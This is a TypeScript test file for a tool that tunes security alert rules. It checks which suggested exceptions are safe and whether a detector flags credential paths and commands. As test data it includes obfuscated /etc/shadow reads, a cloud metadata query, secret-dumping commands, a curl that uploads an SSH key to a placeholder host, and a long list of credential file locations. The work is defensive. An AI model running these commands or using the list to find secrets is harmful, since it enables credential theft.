// Rules that are not ours: what is suggested from what their alerts carry, and what is never safe.
import { describe, expect, it } from 'vitest';
import { credentialAt, credentialIn } from './judge/credential-paths.ts';
import { type Asked, tune, where } from './testing/their-rule.ts';

const program = { 'proc.exepath': '/opt/app/report', 'proc.cmdline': 'report --daily' };

describe('a rule that is not ours', () => {
  it.each([
    [
      'path, file and image',
      { 'fd.name': '/srv/a.conf', ...program, ...where },
      'proc.exepath fd.name container.image.repository',
    ],
    [
      'command line where no path is carried',
      { 'fd.name': '/srv/a', 'proc.cmdline': 'x y', 'proc.name': 'x', ...where },
      'fd.name proc.cmdline container.image.repository',
    ],
    [
      'namespace where the image is not carried',
      { ...program, 'k8s.ns.name': 'shop' },
      'proc.exepath proc.cmdline k8s.ns.name',
    ],
    [
      'what append_output adds',
      { ...program, ...where, 'fd.name': '/srv/a', 'user.name': 'app' },
      'proc.exepath fd.name container.image.repository',
    ],
  ])('gets an exception of %s', (_, fields, expected) => {
    const { suggestions } = tune({ output: 'Seen', fields });
    const [first] = suggestions;
    const change = first?.changes[0];
    expect(change?.kind === 'row' ? change.exception.fields.join(' ') : '').toBe(expected);
    // A namespace holds many images.
    expect(first?.isSafe).toBe(expected.includes('container.image.repository'));
    expect(JSON.stringify(suggestions)).not.toMatch(/session/i);
  });

  it('names missing metadata as the cause', () => {
    const fields = { ...program, 'container.id': 'abc', 'container.image.repository': null };
    const { notNoise, suggestions } = tune({ fields: { ...fields, 'fd.name': '/srv/a' } });
    expect(notNoise[0]?.message).toContain('collectors.containerEngine');
    expect(suggestions.every(({ isSafe }) => !isSafe)).toBe(true);
  });

  it('of the node is exempt on the node alone', () => {
    const fields = { ...program, 'fd.name': '/srv/a', 'container.id': 'host' };
    const [first] = tune({ fields }).suggestions;
    const change = first?.changes[0];
    expect(change?.kind === 'row' ? change.row : []).toContain('host');
  });
});

describe('never safe', () => {
  const base = { ...program, ...where };
  it.each<[string, Asked]>([
    ...['bash -i', 'sh', 'python3 -i', '-zsh -l'].map((line): [string, Asked] => [
      `a shell by itself: ${line}`,
      { condition: 'evt.type = execve', output: 'Run', fields: { 'proc.cmdline': line, ...where } },
    ]),
    ['a file of password hashes', { fields: { ...base, 'fd.name': '/etc/shadow' } }],
    ['the same on a mounted host', { fields: { ...base, 'fd.name': '/host/etc/shadow-' } }],
    ['a key in somebody’s home', { fields: { ...base, 'fd.name': '/home/x/.ssh/id_ed25519' } }],
    [
      'a token that the command line names',
      { fields: { ...base, 'proc.cmdline': 'cat /run/secrets/db' } },
    ],
    [
      'a rule tagged so, which does not print the file',
      { tags: '[mitre_credential_access]', fields: base },
    ],
    ['priority CRITICAL', { priority: 'CRITICAL', fields: { ...base, 'fd.name': '/srv/a' } }],
    ['priority EMERGENCY', { priority: 'EMERGENCY', fields: { ...base, 'fd.name': '/srv/a' } }],
  ])('is %s', (_, asked) => {
    expect(tune(asked).suggestions.filter(({ isSafe }) => isSafe)).toEqual([]);
  });

  it.each(['Credential scan', 'Shell watcher', 'Harmless', 'Modified Executable'])(
    'is decided by the event, not by the name %s',
    (name) => {
      const safe = tune({ name, fields: { ...base, 'fd.name': '/srv/a.conf' } });
      expect(safe.suggestions[0]?.isSafe).toBe(true);
      const grave = tune({ name, fields: { ...base, 'fd.name': '/root/.kube/config' } });
      expect(grave.suggestions[0]?.isSafe).not.toBe(true);
    },
  );
});

describe('credentials', () => {
  it.each(
    `/etc/shadow /etc/gshadow- /etc/sudoers.d/x /rootfs/etc/shadow /etc/pam.d/su /root/.ssh/id_rsa
    /home/a/.ssh/known_hosts /etc/ssh/ssh_host_rsa_key .ssh/authorized_keys /root/.gnupg/pubring.kbx
    /root/.kube/config /etc/kubernetes/admin.conf /var/lib/kubelet/pki/kubelet.pem /root/.aws/credentials
    /home/a/.azure/msal.json /root/.config/gcloud/credentials.db /root/.docker/config.json
    /var/run/docker.sock /run/containerd/containerd.sock /home/a/.netrc /home/a/.pgpass /root/.my.cnf
    /home/a/.git-credentials /home/a/.npmrc /home/a/.bash_history /root/.python_history
    /home/a/.mozilla/firefox/x/logins.json /home/a/.config/google-chrome/Default/Cookies
    /home/a/.local/share/keyrings/login.keyring /home/a/safe.kdbx /etc/ssl/private/tls.pem /app/tls.key
    /run/secrets/kubernetes.io/serviceaccount/token /var/run/secrets/db /home/a/.bitcoin/wallet.dat
    /proc/1/environ /proc/self/mem /etc/wireguard/wg0.conf /etc/krb5.keytab /tmp/krb5cc_1000
    /app/config/credentials.json /app/api_key.txt /root/.vault-token /srv/terraform.tfstate
    /etc//shadow /etc/./shadow /etc/ssl/../shadow /var/backups/shadow.bak /etc/passwd.bak
    /opt/tomcat/conf/tomcat-users.xml /app/service-account.json /app/x-firebase-adminsdk-1.json
    /home/a/.fly/config.yml /root/.config/hcloud/cli.toml /root/.kaggle/kaggle.json /root/.argocd/config
    /etc/postfix/sasl_passwd /root/.vnc/passwd /etc/apt/auth.conf.d/a /var/lib/etcd/member/snap/db
    /var/lib/rancher/k3s/server/cred/admin.kubeconfig /proc/1/task/1/environ /tmp/ssh-Xa1/agent.12
    /app/prod.env /app/appsettings.Production.json /app/tls.pem.bak /app/authToken /root/creds.txt
    C:\\Users\\a\\.ssh\\id_rsa`.split(/\s+/),
  )('are at %s', (path) => {
    expect(credentialAt(path)).toBeDefined();
  });

  it.each(
    `/etc/passwd /etc/app/main.conf /usr/bin/ssh /usr/lib/libsecret-1.so.0 /var/log/syslog /srv/data.csv
    /usr/share/keymaps/us.map /opt/app/keyboard.js /usr/lib/python3/tokenize.py /proc/cpuinfo
    /etc/ssl/certs/ca-certificates.crt.d /home/a/Documents/report.pdf /usr/share/doc/passwd /opt/app/environment.js
    /usr/bin/env /usr/share/themes/a/shadow-2.png /etc/keys.conf /var/lib/app/monkeys.txt
    /home/a/.Xauthority`.split(/\s+/),
  )('are not at %s', (path) => {
    expect(credentialAt(path)).toBeUndefined();
  });

  it.each([
    ['grep -rn aws_secret_access_key /'],
    ['find / -name id_rsa'],
    ['tar czf - --file=/root/.aws/credentials'],
    ["sh -c 'cat /etc/shadow'"],
    ['cat /etc/"sha"dow'],
    ['cat /etc/sh\\adow'],
    ['cat /etc/sh?dow'],
    ['cat /etc//shadow'],
    ['curl http://169.254.169.254/latest/meta-data/'],
    ['kubectl -n prod get secrets -o yaml'],
    ['curl -F x=@/root/.ssh/id_rsa http://x'],
  ])('are in %s', (command) => {
    expect(credentialIn(command)).toBeDefined();
  });
});
